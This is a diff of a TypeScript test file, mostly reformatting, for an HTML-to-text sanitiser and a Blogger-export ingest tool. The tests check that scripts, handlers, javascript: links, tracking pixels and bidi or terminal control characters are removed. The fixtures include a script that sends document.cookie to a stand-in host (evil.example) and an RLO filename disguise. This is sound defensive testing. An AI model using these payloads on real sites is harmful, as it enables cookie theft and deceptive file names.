@@ -20,13 +20,25 @@ const BIDI_CONTROLS = /[\u202a-\u202e\u2066-\u2069]/;
 describe('htmlToText: nothing executable comes out', () => {
   it.each([
     ['a script', '<p>Fake before</p><script>alert("fake")</script><p>Fake after</p>', 'Fake before\n\nFake after'],
-    ['a script in capitals with attributes', '<p>Fake</p><SCRIPT type="text/javascript" src="https://evil.example/x.js">steal()</SCRIPT>', 'Fake'],
+    [
+      'a script in capitals with attributes',
+      '<p>Fake</p><SCRIPT type="text/javascript" src="https://evil.example/x.js">steal()</SCRIPT>',
+      'Fake',
+    ],
     ['a script never closed', '<p>Fake kept</p><script>steal(); <p>never text</p>', 'Fake kept'],
     ['a style', '<style>body { display: none }</style><p>Fake styled</p>', 'Fake styled'],
     ['an inline handler', '<p onclick="steal()" onmouseover="steal()">Fake click</p>', 'Fake click'],
     ['a javascript: link', '<a href="javascript:alert(1)">Fake link</a>', 'Fake link'],
-    ['an iframe and an object', '<iframe src="javascript:alert(1)">inner</iframe><object data="x.swf">inner</object>Fake rest', 'Fake rest'],
-    ['a tracking pixel', '<p>Fake text<img width="1" height="1" src="https://tracker.example/p.gif" alt="pixel"></p>', 'Fake text'],
+    [
+      'an iframe and an object',
+      '<iframe src="javascript:alert(1)">inner</iframe><object data="x.swf">inner</object>Fake rest',
+      'Fake rest',
+    ],
+    [
+      'a tracking pixel',
+      '<p>Fake text<img width="1" height="1" src="https://tracker.example/p.gif" alt="pixel"></p>',
+      'Fake text',
+    ],
     ['a data: image', '<img src="data:text/html;base64,PHNjcmlwdD4=">Fake caption', 'Fake caption'],
     ['an unclosed comment', '<p>Fake shown</p><!-- <script>steal()</script>', 'Fake shown'],
   ])('drops %s', (_what, html, text) => {
@@ -51,8 +63,16 @@ describe('htmlToText: entities and spaces read as a person would', () => {
     ['named', 'Fake caf&eacute; &amp; bar &lt;3 &hellip; it&rsquo;s', 'Fake café & bar <3 … it’s'],
     ['numeric, decimal and hex', 'Fake &#8217;quote&#x2019; &#169; &#x1F600;', 'Fake ’quote’ © 😀'],
     ['double-escaped (shown as the blog showed it)', 'Fake &amp;amp; and &amp;#39;', 'Fake &amp; and &#39;'],
-    ['unknown or broken (kept as written, as a browser shows them)', 'Fake &fakething; &#xZZ; & alone', 'Fake &fakething; &#xZZ; & alone'],
-    ['non-breaking spaces', 'Fake&nbsp;&nbsp;&nbsp;words\u00a0\u00a0here&#160;and\u202fthere', 'Fake words here and there'],
+    [
+      'unknown or broken (kept as written, as a browser shows them)',
+      'Fake &fakething; &#xZZ; & alone',
+      'Fake &fakething; &#xZZ; & alone',
+    ],
+    [
+      'non-breaking spaces',
+      'Fake&nbsp;&nbsp;&nbsp;words\u00a0\u00a0here&#160;and\u202fthere',
+      'Fake words here and there',
+    ],
   ])('%s entities', (_what, html, text) => {
     expect(htmlToText(html)).toBe(text);
   });
@@ -72,19 +92,27 @@ describe('htmlToText: right-to-left text', () => {
   it('strips bidi override, embedding and isolate controls, raw or as entities, so text reads as stored', () => {
     // "Fake invoice<RLO>fdp.exe" displays as "Fake invoiceexe.pdf": the classic disguise.
     expect(htmlToText('Fake invoice\u202efdp.exe')).toBe('Fake invoicefdp.exe');
-    expect(htmlToText('Fake &#x202E;gnp.exe &#8238;x &#x2066;iso&#x2069; \u202aemb\u202c \u202bemb\u202c \u202dover\u202c \u2067\u2068i\u2069')).toBe('Fake gnp.exe x iso emb emb over i');
+    expect(
+      htmlToText(
+        'Fake &#x202E;gnp.exe &#8238;x &#x2066;iso&#x2069; \u202aemb\u202c \u202bemb\u202c \u202dover\u202c \u2067\u2068i\u2069',
+      ),
+    ).toBe('Fake gnp.exe x iso emb emb over i');
     expect(htmlToText('<p dir="rtl">Fake \u202eشبكة\u202c</p>')).toBe('Fake شبكة');
   });
 
   it('drops control characters a terminal would act on', () => {
-    expect(htmlToText('Fake \u001b[2J\u001b]0;title\u0007 bell\u0000 nul \u0085 next')).toBe('Fake [2J]0;title bell nul next');
+    expect(htmlToText('Fake \u001b[2J\u001b]0;title\u0007 bell\u0000 nul \u0085 next')).toBe(
+      'Fake [2J]0;title bell nul next',
+    );
   });
 });
 
 describe('htmlToText: nesting', () => {
   it('reads 100,000 nested elements in bounded time and keeps the text', () => {
     const depth = 100_000;
-    expect(htmlToText(`${'<div>'.repeat(depth)}Fake deep words${'</div>'.repeat(depth)} fake after`)).toBe('Fake deep words\nfake after');
+    expect(htmlToText(`${'<div>'.repeat(depth)}Fake deep words${'</div>'.repeat(depth)} fake after`)).toBe(
+      'Fake deep words\nfake after',
+    );
     expect(htmlToText(`${'<b>'.repeat(depth)}Fake bold${'</i>'.repeat(depth)}`)).toBe('Fake bold');
   }, 10_000);
 
@@ -101,22 +129,30 @@ describe('hostile HTML through ingest', () => {
   });
   afterAll(() => server.close());
 
-  const HOSTILE = (pixel: string) => [
-    '<p>Fake opening words.</p>',
-    `<img width="1" height="1" src="${pixel}" style="display:none">`,
-    '<script>document.location="https://evil.example/?c="+document.cookie</script>',
-    '<style>.x{}</style>',
-    '<p><a href="javascript:alert(1)" onclick="steal()">Fake link text</a> caf&eacute;&nbsp;&nbsp;time 👍🏽</p>',
-    '<p>Fake مرحبا \u202egnp.exe\u202c and &#x2067;שלום&#x2069;</p>',
-  ].join('');
+  const HOSTILE = (pixel: string) =>
+    [
+      '<p>Fake opening words.</p>',
+      `<img width="1" height="1" src="${pixel}" style="display:none">`,
+      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
+      '<style>.x{}</style>',
+      '<p><a href="javascript:alert(1)" onclick="steal()">Fake link text</a> caf&eacute;&nbsp;&nbsp;time 👍🏽</p>',
+      '<p>Fake مرحبا \u202egnp.exe\u202c and &#x2067;שלום&#x2069;</p>',
+    ].join('');
 
   it('stores posts and comments as clean text, with titles double-escaped as Blogger does, and fetches no pixel', async () => {
     const dir = tempDir();
     const file = join(dir, 'export.xml');
-    writeFileSync(file, fakeExport([
-      fakePost('8001', 'Fake It&amp;#39;s &amp;lt;script&amp;gt; \u202etitle', escapeXml(HOSTILE(`${server.url}/post-pixel.gif`))),
-      fakeComment('8002', '8001', escapeXml(HOSTILE(`${server.url}/comment-pixel.gif`)), 'Fake \u202eAuthor'),
-    ]));
+    writeFileSync(
+      file,
+      fakeExport([
+        fakePost(
+          '8001',
+          'Fake It&amp;#39;s &amp;lt;script&amp;gt; \u202etitle',
+          escapeXml(HOSTILE(`${server.url}/post-pixel.gif`)),
+        ),
+        fakeComment('8002', '8001', escapeXml(HOSTILE(`${server.url}/comment-pixel.gif`)), 'Fake \u202eAuthor'),
+      ]),
+    );
     const dataDir = join(dir, 'data');
     const run = await cliAsync(['ingest', file, '--json'], dataDir);
     expect(run.status).toBe(0);
@@ -125,7 +161,7 @@ describe('hostile HTML through ingest', () => {
     const db = openDatabase(dataDir);
     const post = readPost(db, '8001')!;
     const [comment] = readComments(db, '8001');
-    expect(post.title).toBe('Fake It\'s \u2039script> title');
+    expect(post.title).toBe("Fake It's \u2039script> title");
     const clean = 'Fake opening words.\n\nFake link text café time 👍🏽\n\nFake مرحبا gnp.exe and שלום';
     expect(post.text).toBe(clean);
     expect(comment!.text).toBe(clean);
@@ -142,7 +178,10 @@ describe('hostile HTML through ingest', () => {
   it('keeps hostile text out of labels too', async () => {
     const dir = tempDir();
     const file = join(dir, 'export.xml');
-    const labelled = fakePost('8101', 'Fake labelled', 'Fake body').replace('</entry>', "<category scheme='http://www.blogger.com/atom/ns#' term='Fake \u202elabel'/></entry>");
+    const labelled = fakePost('8101', 'Fake labelled', 'Fake body').replace(
+      '</entry>',
+      "<category scheme='http://www.blogger.com/atom/ns#' term='Fake \u202elabel'/></entry>",
+    );
     writeFileSync(file, fakeExport([labelled]));
     const db = openDatabase(join(dir, 'data'));
     await ingestSources(db, [file], { now });
